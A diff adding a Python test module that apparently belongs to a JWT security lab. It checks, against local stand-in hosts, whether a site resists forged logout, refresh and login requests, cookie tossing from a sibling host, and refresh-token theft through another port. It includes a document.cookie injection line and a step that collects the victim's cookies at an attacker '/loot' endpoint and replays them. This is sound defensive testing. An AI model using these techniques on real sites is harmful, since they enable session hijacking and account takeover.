@@ -1,0 +1,135 @@
+"""The victim is logged in, and opens a page of the attacker's. What can that page make the browser do?
+
+Three places for it: another site, another port of the same host, and a sibling host. SameSite tells the first
+from the other two; the port is part of an origin, but not of a site, and a cookie does not know it at all.
+"""
+
+from urllib.parse import urlencode
+
+from jwtlab.attacks.record import Evidence, attack
+from jwtlab.attacks.stage import Stage, who_is_logged_in
+
+SITE = "127.0.0.1"
+OTHER_SITE = "localhost"
+SHOP, SIBLING = "www.shop.localhost", "evil.shop.localhost"  # below one registrable domain, `shop.localhost`
+
+
+# The lowest of them is entered first.
+@attack(
+    "A page of a sibling host logs its visitor out.",
+    source="ASVS 3.5.1",
+    in_browser=True,
+    name="logout_forged_by_a_sibling",
+    path="/logout/",
+    victim=SHOP,
+    attacker=SIBLING,
+)
+@attack(
+    "A page on another port of the host logs its visitor out.",
+    source="ASVS 3.5.1",
+    in_browser=True,
+    name="logout_forged_by_another_port",
+    path="/logout/",
+    victim=SITE,
+    attacker=SITE,
+)
+@attack(
+    "A page of another site logs its visitor out.",
+    source="ASVS 3.5.1",
+    in_browser=True,
+    name="logout_forged_by_another_site",
+    path="/logout/",
+    victim=SITE,
+    attacker=OTHER_SITE,
+)
+@attack(
+    "A page of a sibling host makes the browser refresh.",
+    source="ASVS 3.5.1, rfc6265bis §8.8",
+    in_browser=True,
+    name="refresh_forged_by_a_sibling",
+    path="/api/token/refresh/",
+    victim=SHOP,
+    attacker=SIBLING,
+)
+@attack(
+    "A page on another port of the host makes the browser refresh.",
+    source="ASVS 3.5.1, rfc6265bis §8.8",
+    in_browser=True,
+    name="refresh_forged_by_another_port",
+    path="/api/token/refresh/",
+    victim=SITE,
+    attacker=SITE,
+)
+@attack(
+    "A page of another site makes the browser refresh.",
+    source="ASVS 3.5.1",
+    in_browser=True,
+    name="refresh_forged_by_another_site",
+    path="/api/token/refresh/",
+    victim=SITE,
+    attacker=OTHER_SITE,
+)
+def forged_form(stage: Stage, path: str, victim: str, attacker: str) -> Evidence:
+    page = stage.logged_in_page(stage.visitor(), at=stage.at(victim))
+    target = stage.at(victim) + path
+    sent = page.go(f"{stage.evil_at(attacker)}/form/?{urlencode({'action': target})}").answer(target)
+    cookie = "sent" if any("refresh" in name for name in sent.cookies) else "not sent"
+    return Evidence(sent.status < 300, f"{sent.site}, cookie {cookie}: {sent.status}")
+
+
+@attack(
+    "A page of another site logs its visitor in as the attacker.",
+    source="ASVS 3.5.1, rfc6265bis §8.8",
+    in_browser=True,
+)
+def login_forged_by_another_site(stage: Stage) -> Evidence:
+    fields = {"action": stage.url + "/login/", "username": "mallory", "password": "mallory-attacks"}
+    page = stage.visitor().open(f"{stage.evil_at(OTHER_SITE)}/form/?{urlencode(fields)}")
+    sent = page.answer(stage.url + "/login/")
+    who = who_is_logged_in(page.go(stage.url + "/app/cookie/"))
+    return Evidence(who == "mallory", f"login {sent.status}; then logged in: {who}")
+
+
+@attack(
+    "A sibling host puts the attacker's cookie in place of the visitor's.",
+    source="rfc6265bis §8.6, ASVS 3.3.3",
+    in_browser=True,
+)
+def cookie_tossed_by_a_sibling(stage: Stage) -> Evidence:
+    vitor = stage.visitor()
+    page = stage.logged_in_page(vitor, at=stage.at(SHOP))
+    ((name, value),) = stage.log_in("mallory").cookie.items()
+    toss = f"document.cookie = '{name}={value}; Domain=shop.localhost; Path=/; Secure; SameSite=Strict'"
+    page.go(stage.evil_at(SIBLING)).run(toss)
+    kept = [cookie for cookie in vitor.cookies() if cookie.domain == ".shop.localhost"]
+    who = who_is_logged_in(page.go(stage.at(SHOP) + "/app/cookie/"))
+    what = "kept" if kept else "not kept"
+    return Evidence(who == "mallory", f"cookie {what}; logged in: {who}")
+
+
+@attack(
+    "A script on another port reads the access token that it makes the site give out.",
+    source="ASVS 3.4.2",
+    in_browser=True,
+)
+def answer_read_by_another_port(stage: Stage) -> Evidence:
+    page = stage.logged_in_page(stage.visitor())
+    refresh = {"url": stage.url + "/api/token/refresh/", "method": "POST"}
+    tries = [refresh, refresh | {"header": "X-Auth-Request: 1"}]  # without the site's own header, and with it
+    texts = [page.go(f"{stage.evil_at(SITE)}/fetch/?{urlencode(one)}").see('"read"').text for one in tries]
+    read = [text for text in texts if '"read":true' in text]
+    return Evidence(bool(read), f"{len(read)} of 2 answers could be read")
+
+
+@attack(
+    "Another port of the host is sent the refresh cookie, and can use it.",
+    source="rfc6265bis §8.5, ASVS 3.5.4",
+    in_browser=True,
+)
+def cookie_sent_to_another_port(stage: Stage) -> Evidence:
+    page = stage.logged_in_page(stage.visitor())
+    page.go(stage.evil_at(SITE) + "/loot")
+    received = dict(cookie.split("=", 1) for cookie in stage.loot()[-1]["cookies"].split("; ") if cookie)
+    stolen = {name: value for name, value in received.items() if value.startswith("eyJ")}
+    refresh = stage.thief(stolen).refresh()
+    return Evidence(refresh.ok, f"sent {', '.join(stolen) or 'no token'}; used there: {refresh.status_code}")
